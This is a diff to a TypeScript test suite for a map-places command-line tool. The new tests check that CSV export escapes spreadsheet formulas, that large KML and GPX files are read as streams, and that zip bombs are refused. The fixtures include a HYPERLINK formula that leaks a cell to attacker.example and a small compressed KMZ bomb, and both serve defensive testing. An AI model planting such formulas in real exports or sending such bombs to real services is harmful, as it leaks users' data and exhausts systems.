@@ -4,6 +4,7 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { after, before, describe, test } from 'node:test'
+import { parse } from 'csv-parse/sync'
 import { zipSync } from 'fflate'
 import { createTestDatabase, databaseKinds, type TestDatabase } from '../support/databases'
 
@@ -13,8 +14,13 @@ import { createTestDatabase, databaseKinds, type TestDatabase } from '../support
 type Run = { status: number | null; stdout: string; stderr: string }
 
 function places(url: string, ...args: string[]): Run {
+  return placesWith({}, url, ...args)
+}
+
+/** `places` with more in its environment. */
+function placesWith(env: Record<string, string>, url: string, ...args: string[]): Run {
   const result = spawnSync(process.execPath, ['bin/places.mjs', ...args], {
-    env: { ...process.env, DATABASE_URL: url, SITE_URL: 'http://places.test' },
+    env: { ...process.env, DATABASE_URL: url, SITE_URL: 'http://places.test', ...env },
     encoding: 'utf8',
     maxBuffer: 64 * 1024 * 1024,
   })
@@ -78,6 +84,25 @@ const HELD: Record<string, (f: Feature) => unknown> = {
 const inFormat = (format: string, features: Feature[]) => (format === 'gpx' ? features.filter((f) => f.geometry) : features)
 
 const byTitle = (a: Feature, b: Feature) => a.properties.title.localeCompare(b.properties.title)
+
+/** A map of many places, as My Maps writes one (KML, in folders) and as a GPS does (GPX waypoints). */
+function manyPlaces(format: 'kml' | 'gpx', count: number): string {
+  const places = Array.from({ length: count }, (_, i) => ({ i, lat: ((i * 7) % 170) - 85 + 0.123456, lon: ((i * 13) % 350) - 175 + 0.654321 }))
+  if (format === 'gpx') {
+    const waypoints = places.map(
+      ({ i, lat, lon }) =>
+        `<wpt lat="${lat}" lon="${lon}"><ele>${i % 3000}</ele><time>2024-05-01T12:00:00Z</time><name>Place ${i}</name>` +
+        `<cmt>Seen from the road</cmt><desc>Notes on place ${i}, kept.</desc><sym>Flag, Blue</sym><type>user</type></wpt>`,
+    )
+    return `<?xml version="1.0" encoding="UTF-8"?>\n<gpx version="1.1" creator="test" xmlns="http://www.topografix.com/GPX/1/1">\n${waypoints.join('\n')}\n</gpx>\n`
+  }
+  const placemarks = places.map(
+    ({ i, lat, lon }) =>
+      `${i % 1000 === 0 ? `${i > 0 ? '</Folder>' : ''}<Folder><name>Part ${i / 1000}</name>` : ''}<Placemark><name>Place ${i}</name><address>${i} Main Street</address>` +
+      `<description><![CDATA[<p>Notes on place ${i}, <b>kept</b>.</p>]]></description><styleUrl>#icon-1899</styleUrl><Point><coordinates>${lon},${lat},0</coordinates></Point></Placemark>`,
+  )
+  return `<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>Many</name>\n${placemarks.join('\n')}</Folder></Document></kml>\n`
+}
 
 for (const kind of databaseKinds) {
   describe(`formats on ${kind}`, () => {
@@ -154,6 +179,82 @@ for (const kind of databaseKinds) {
         ok(places(copy.url, 'import', kmz))
         const [cafe] = exported(copy.url)
         assert.deepEqual([cafe?.properties.title, cafe?.properties.content, cafe?.properties.categories], ['Café & bar', '<p>Good <b>coffee</b></p>', ['Food']])
+      } finally {
+        await copy.drop()
+      }
+    })
+
+    test('CSV: text a spreadsheet would run is exported behind a quote, numbers as they are, and imported back as it was', async () => {
+      const formulas = {
+        type: 'FeatureCollection',
+        features: [
+          feature([-70.6, -33.45], {
+            title: '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")',
+            content: '+1 555 0100',
+            address: '@SUM(A1:A9)',
+            slug: 'formula',
+            date: '2022-02-02T00:00:00.000Z',
+            categories: ['-Minus > Sub', '=Equals'],
+          }),
+          // A title that begins with a quote before a formula character is one a spreadsheet shows as text already.
+          feature([151.2, -33.8], {
+            title: "'=quoted already",
+            content: '\tindented\r\nthen a return',
+            address: "''-2",
+            slug: 'quoted',
+            date: '2022-02-03T00:00:00.000Z',
+          }),
+          feature(null, { title: '-5 degrees', content: '\ra return first', slug: 'minus', date: '2022-02-04T00:00:00.000Z' }),
+        ],
+      }
+      const [source, copy] = [await createTestDatabase(kind), await createTestDatabase(kind)]
+      try {
+        ok(places(source.url, ...admin))
+        ok(places(source.url, 'import', file(`formulas-${kind}.geojson`, JSON.stringify(formulas))))
+        const csv = ok(places(source.url, 'export', '--format', 'csv'))
+        const [header, ...rows] = parse(csv)
+        const numbers = new Set(['id', 'latitude', 'longitude'].map((name) => header!.indexOf(name)))
+        for (const row of rows) {
+          for (const [index, value] of row.entries()) {
+            if (!numbers.has(index)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${header![index]}: ${JSON.stringify(value)}`)
+          }
+        }
+        const cell = (slug: string, name: string) => rows.find((row) => row[header!.indexOf('slug')] === slug)![header!.indexOf(name)]
+        assert.equal(cell('formula', 'title'), `'=HYPERLINK("http://attacker.example/?leak="&A2,"Open")`)
+        assert.deepEqual([cell('formula', 'latitude'), cell('formula', 'longitude')], ['-33.45', '-70.6'], 'numbers are not escaped')
+        assert.equal(cell('quoted', 'title'), "''=quoted already")
+
+        ok(places(copy.url, ...admin))
+        ok(places(copy.url, 'import', file(`formulas-${kind}.csv`, csv)))
+        assert.deepEqual(exported(copy.url).sort(byTitle).map(HELD.csv!), exported(source.url).sort(byTitle).map(HELD.csv!))
+      } finally {
+        await Promise.all([source.drop(), copy.drop()])
+      }
+    })
+
+    test('KML, KMZ and GPX are read as streams: in a small heap, a large file is read and a zip bomb refused', async () => {
+      const copy = await createTestDatabase(kind)
+      try {
+        ok(places(copy.url, ...admin))
+        // A heap far smaller than a DOM of these files: the readers that built one died in it; one placemark at a time fits.
+        const smallHeap = { NODE_OPTIONS: `${process.env.NODE_OPTIONS ?? ''} --max-old-space-size=64` }
+        for (const format of ['kml', 'gpx'] as const) {
+          const text = manyPlaces(format, 20_000)
+          assert.ok(text.length > 4 * 1024 * 1024, `${format}: ${text.length} bytes`)
+          const dry = placesWith(smallHeap, copy.url, 'import', '--dry-run', file(`many-${kind}.${format}`, text))
+          assert.equal(dry.status, 0, dry.stderr)
+          assert.equal(dry.stdout, `Would import 20000 ${format === 'kml' ? 'placemarks from KML' : 'waypoints from GPX'}.\nDry run: nothing was written.\n`)
+        }
+        // A few KB that unpack to megabytes of empty placemarks: refused once past the ratio, before it is all unpacked.
+        const bomb = zipSync({ 'doc.kml': Buffer.from(`<kml><Document>${'<Placemark/>'.repeat(400_000)}</Document></kml>`) }, { level: 9 })
+        assert.ok(bomb.length < 16 * 1024, `${bomb.length} bytes`)
+        const refused = placesWith(smallHeap, copy.url, 'import', '--dry-run', file(`bomb-${kind}.kmz`, bomb))
+        assert.equal(refused.status, 1, refused.stderr)
+        assert.match(
+          refused.stderr,
+          /^places import: Nothing was imported:\ndoc\.kml in the KMZ unpacks to more than 100 times its compressed size \([\d,]+ bytes\), as a zip bomb does and no map: if you trust the file, unzip it and import its KML, which is read as a stream, whatever its size\n$/,
+        )
+        assert.deepEqual(exported(copy.url), [])
       } finally {
         await copy.drop()
       }
